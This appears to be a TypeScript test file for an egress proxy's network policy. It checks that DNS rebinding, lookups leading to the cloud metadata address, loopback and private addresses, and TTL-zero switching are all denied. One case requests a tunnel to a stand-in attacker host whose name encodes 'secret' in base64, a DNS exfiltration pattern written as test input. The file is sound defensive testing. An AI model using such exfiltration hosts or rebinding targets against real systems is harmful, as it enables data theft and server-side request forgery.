import assert from "node:assert/strict";
import type { Case, Cases } from "./case.ts";
import { PolicyFixture } from "./policy_fixture.ts";
import { TunnelRefused } from "../support/raw_client.ts";

const HOST = "a.allowed.example";
const GET = `GET / HTTP/1.1\r\nHost: ${HOST}\r\nConnection: close\r\n\r\n`;
/** The address of the upstream for {@linkcode HOST}; see `EgressFixture`. */
const PUBLIC = "93.184.216.4";

export const dnsCases: Cases = {
  "dns-before-policy": async () => {
    await using fixture = await PolicyFixture.start();
    const refused = await fixture.egress.tunnel("c2VjcmV0.evil.example:443").catch((error) =>
      error
    );
    assert.ok(refused instanceof TunnelRefused);
    assert.deepEqual(fixture.egress.lookups, []);
    return `deny-${refused.answer?.status}`;
  },
  "dns-cname": resolvesTo([["169.254.169.254"]]), // what metadata.google.internal leads to
  "dns-rebind-1": resolvesTo([["127.0.0.1"]]),
  "dns-rebind-2": resolvesTo([["169.254.169.254"]]),
  "dns-rebind-3": resolvesTo([["10.0.0.5"]]),
  "dns-rebind-4": resolvesTo([[PUBLIC, "::1"]]),
  "dns-rebind-5": resolvesTo([[PUBLIC], ["127.0.0.1"]]),
  "dns-rebind-6": resolvesTo([["::ffff:127.0.0.1"]]),
  "dns-ttl0": resolvesTo([[PUBLIC], ["10.0.0.5"], [PUBLIC], ["10.0.0.5"]]),
};

/** Asks once for every answer of the resolver: a public address is dialled as it was checked, no other ever. */
function resolvesTo(answers: readonly (readonly string[])[]): Case {
  return async () => {
    let lookup = 0;
    await using fixture = await PolicyFixture.start({
      resolve: () => Promise.resolve(answers[lookup++ % answers.length]!),
    });
    assert.equal(fixture.egress.addressOf(HOST), PUBLIC);
    let last: number | undefined;
    for (const addresses of answers) {
      using client = await fixture.egress.tunnel(`${HOST}:443`);
      const answer = await client.ask(GET);
      last = answer?.status;
      const clean = addresses.every((address) => address === PUBLIC);
      if (clean) assert.equal(last, 200);
      else assert.equal(answer?.headers.get("x-bot-bottle-denied"), "address_not_allowed");
      fixture.egress.reload([{ host: HOST }]); // no connection is kept: the next request looks up again
    }
    assert.equal(lookup, answers.length, "a name was looked up more than once for one connection");
    const dialled = answers.filter((addresses) => addresses.every((one) => one === PUBLIC)).length;
    assert.deepEqual(fixture.egress.dials, new Array(dialled).fill(`${PUBLIC}:443`));
    return `deny-${last}`;
  };
}
